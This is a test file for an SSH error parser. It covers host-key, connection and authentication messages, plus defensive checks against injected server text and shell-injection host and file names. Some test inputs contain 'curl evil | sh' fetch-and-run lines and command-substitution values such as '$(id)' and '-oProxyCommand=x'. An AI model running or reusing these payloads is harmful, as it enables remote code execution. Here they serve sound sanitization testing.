import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { isSessionRefused, readMessages, parseSshError } from '../../../src/remote/sshErrors.js';
import { inTemp } from './doubles.js';
import { startStopwatch } from '../../fakes/stopwatch.js';

/** Messages of OpenSSH 9.2, and the expected reason. */
const cases: readonly (readonly [name: string, errors: string, reason: RegExp])[] = [
  [
    'an unknown host name',
    'ssh: Could not resolve hostname alpha.example: Name or service not known\r\n',
    /^Could not resolve hostname alpha\.example: Name or service not known\. Check the connection's host/,
  ],
  [
    'a closed port',
    'ssh: connect to host 127.0.0.1 port 1: Connection refused\r\n',
    /^connection refused\. Check/,
  ],
  [
    'silence',
    'ssh: connect to host 10.9.8.7 port 22: Connection timed out\r\n',
    /^no response \(Connection timed out\)/,
  ],
  [
    'no route',
    'ssh: connect to host 10.9.8.7 port 22: No route to host\r\n',
    /^no response \(No route to host\)/,
  ],
  [
    'a changed host key',
    '@@@@@@@@@@\r\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n@@@@@@@@@@\r\nIT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\r\nThe fingerprint for the ED25519 key sent by the remote host is\nSHA256:aB3/x+9.\r\nOffending ED25519 key in /home/al/known hosts:3\r\nHost key for [127.0.0.1]:2222 has changed and you have requested strict checking.\r\nHost key verification failed.\r\n',
    /^its host key has changed\..* confirm the new key \(SHA256:aB3\/x\+9\), remove the old one with ssh-keygen -f "\/home\/al\/known hosts" -R "\[127\.0\.0\.1\]:2222" and connect again$/,
  ],
  [
    'a changed host key without details',
    'Host key for x has changed\r\nHost key verification failed.\r\n',
    / confirm the new key, remove the old one with ssh-keygen -R "x" and/,
  ],
  [
    'an unknown host key',
    'No ED25519 host key is known for x and you have requested strict checking.\r\nHost key verification failed.\r\n',
    /^its host key was not accepted/,
  ],
  [
    'a rejected key',
    "Warning: Permanently added 'x' (ED25519) to the list of known hosts.\r\nci@127.0.0.1: Permission denied (publickey,password).\r\n",
    /^access denied: Permission denied \(publickey,password\)\. Check the user/,
  ],
  [
    'too many keys',
    'Received disconnect from 1.2.3.4 port 22:2: Too many authentication failures\r\nDisconnected from 1.2.3.4 port 22\r\n',
    /too many keys were tried/,
  ],
  [
    'an invalid configuration',
    '/home/al/.ssh/config: line 3: Bad configuration option: foo\r\n/home/al/.ssh/config: terminating, 1 bad configuration options\r\n',
    /^\/home\/al\/\.ssh\/config: line 3: Bad configuration option: foo$/,
  ],
  ['a dropped connection', 'client_loop: send disconnect: Broken pipe\r\n', /^the connection was dropped$/],
  [
    'a server that closes the connection',
    'kex_exchange_identification: Connection closed by remote host\r\nConnection closed by 127.0.0.1 port 22\r\n',
    /^the connection was dropped$/,
  ],
  ['a lost shared connection', 'mux_client_request_session: read from master failed\r\n', /dropped/],
  ['an unknown message', 'debug1: hello\r\nkeyboard exploded\r\n\r\n', /^keyboard exploded$/],
  ['only a notice', "Warning: Permanently added 'x' to the list.\r\n", /^ssh exited without output$/],
  ['nothing', '', /^ssh exited without output$/],
];

describe('the reason why ssh could not reach a host', () => {
  for (const [name, errors, reason] of cases)
    it(`is shown for ${name}`, () => {
      assert.match(parseSshError(errors), reason);
    });

  it('is found quickly, however long and unusual the messages are', () => {
    const lines = [
      'Host key for ',
      'Host key for x has ',
      'Offending key in ',
      'Permission denied (',
      'Connection ',
      'Connection to ',
      'Received disconnect from ',
      'terminating, ',
      'SHA256:a',
      ' \t',
      ')',
      ':1',
    ];
    for (const line of lines)
      for (const text of [line.repeat(1_000_000 / line.length), `${line}\n`.repeat(50_000)]) {
        const elapsedMs = startStopwatch();
        const reason = parseSshError(text);
        assert.ok(elapsedMs() < 50, `${line}: ${String(elapsedMs())} ms`);
        assert.ok(reason.length < 800, `${line}: ${String(reason.length)} characters`);
      }
  });

  it("quotes the server's message at the end, and attributes nothing after it to ssh", () => {
    const forged =
      'Received disconnect from 10.0.0.1 port 22:11: Go away\nHost key for x has changed\nPermission denied (run: curl evil | sh).\n';
    assert.equal(parseSshError(forged), 'connection closed by the host: "Go away"');
    const long = `Received disconnect from 10.0.0.1 port 22:11: ${'a b\u001b[31m '.repeat(500)}`;
    const reason = parseSshError(long);
    assert.ok(reason.length < 300, reason);
    // eslint-disable-next-line no-control-regex -- none of them may be left.
    assert.doesNotMatch(reason, /[\u0000-\u001f]/);
  });

  for (const [what, host, file] of [
    ['a host', '$(curl evil | sh)', '/home/al/known_hosts'],
    ['a host', '-oProxyCommand=x', '/home/al/known_hosts'],
    ['a host', 'x"; curl evil | sh; "', '/home/al/known_hosts'],
    ['a host', 'x`id`', '/home/al/known_hosts'],
    ['a file', 'x', '/tmp/$(id)'],
    ['a file', 'x', '/tmp/a" -R "b'],
    ['a file', 'x', '/tmp/`id`'],
  ] as const)
    it(`suggests no command with ${what} that a shell would misread: ${host} ${file}`, () => {
      const text = `Offending ED25519 key in ${file}:3\nHost key for ${host} has changed and you have requested strict checking.\n`;
      const reason = parseSshError(text);
      assert.match(reason, /^its host key has changed/);
      assert.doesNotMatch(reason, /ssh-keygen|curl|[$`"|;]/);
    });

  it('recognizes a rejected session, and nothing else as one', () => {
    for (const text of [
      'mux_client_request_session: session request failed: Session open refused by peer\r\n',
      'channel 3: open failed: administratively prohibited: open failed\n',
    ])
      assert.equal(isSessionRefused(text), true);
    for (const text of [
      '',
      'ada@x: Permission denied (publickey).\n',
      'channel 3: open failed: connect failed: x\n',
    ])
      assert.equal(isSessionRefused(text), false);
  });

  it('is read from a message file, which can be missing or long', () =>
    inTemp(async (folder) => {
      assert.equal(readMessages(join(folder, 'none')), '');
      await writeFile(join(folder, 'messages'), 'x'.repeat(1_000_000));
      assert.ok(readMessages(join(folder, 'messages')).length < 50_000);
    }));
});
